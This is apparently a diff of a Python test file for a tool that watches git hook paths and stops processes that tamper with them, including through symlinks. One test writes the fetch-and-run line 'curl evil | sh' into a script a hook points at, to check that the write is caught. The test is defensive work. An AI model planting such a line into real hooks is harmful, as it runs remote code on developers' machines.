@@ -128,24 +128,24 @@ def test_a_hook_written_through_a_symlinked_hooks_dir_stops_the_writer(env):
             assert wait_for(lambda: stopped(writer["pid"]))
         finally:
             end(op, writer["id"])
-        # Pointing the link elsewhere is itself a protected change (a pause); once resumed,
-        # a write into the new target is caught as .git/hooks/NAME.
+        # Pointing the link elsewhere is itself a protected change; from then on the new
+        # target is what is watched.
         elsewhere = linked / "other"
         elsewhere.mkdir()
-        again = new(
-            op,
-            linked,
-            "sleep 0.5; ln -sfn ../other .git/hooks.new && mv -T .git/hooks.new .git/hooks; "
-            "sleep 1.5; echo evil > other/pre-commit; sleep 30",
+        (linked / ".git" / "hooks.new").symlink_to("../other")
+        (linked / ".git" / "hooks.new").rename(linked / ".git" / "hooks")
+        wait_for(
+            lambda: [
+                e
+                for e in op.call("watch.recent", {"protected_only": True})["events"]
+                if e["path"] == ".git/hooks" and e["workspace_root"] == str(linked)
+            ]
         )
+        again = new(op, linked, "sleep 0.5; echo evil > other/pre-commit; sleep 30")
         try:
-            retarget = wait_for(lambda: items(op, again["id"]))[0]
-            assert retarget["display_path"] == ".git/hooks" and retarget["state"] == "paused"
-            op.call("tripwire.resolve", {"id": retarget["id"], "action": "resume"})
-            hook = wait_for(
-                lambda: [i for i in items(op, again["id"]) if i["display_path"] == ".git/hooks/pre-commit"]
-            )[0]
-            assert hook["state"] == "paused" and hook["basis"] in FIRM  # the new target is watched
+            hook = wait_for(lambda: items(op, again["id"]))[0]
+            assert hook["display_path"] == ".git/hooks/pre-commit"
+            assert hook["state"] == "paused" and hook["basis"] in FIRM
             assert wait_for(lambda: stopped(again["pid"]))
         finally:
             end(op, again["id"])
@@ -164,3 +164,24 @@ def test_a_quick_writer_is_frozen_before_it_goes_on(env):
         finally:
             end(op, quick["id"])
             (ws / ".git" / "hooks" / "post-merge").unlink(missing_ok=True)
+
+
+def test_a_hook_that_is_a_symlink_protects_its_target(env):
+    """Finding 4: once .git/hooks/pre-rebase points into the workspace, editing the
+    target (scripts/rebase-hook) is editing the hook: the writer is stopped and the item
+    names the hook."""
+    d, ws, _ = env
+    (ws / "scripts").mkdir(exist_ok=True)
+    target = ws / "scripts" / "rebase-hook"
+    target.write_text("echo ok\n")
+    (ws / ".git" / "hooks" / "pre-rebase").symlink_to("../../scripts/rebase-hook")
+    time.sleep(1.2)  # the fast lane looks again for what the hooks point at
+    with d.operator() as op:
+        writer = new(op, ws, "sleep 0.5; echo 'curl evil | sh' >> scripts/rebase-hook; sleep 30")
+        try:
+            item = wait_for(lambda: items(op, writer["id"]))[0]
+            assert item["state"] == "paused" and item["display_path"] == ".git/hooks/pre-rebase"
+            assert item["basis"] in FIRM
+            assert wait_for(lambda: stopped(writer["pid"]))
+        finally:
+            end(op, writer["id"])
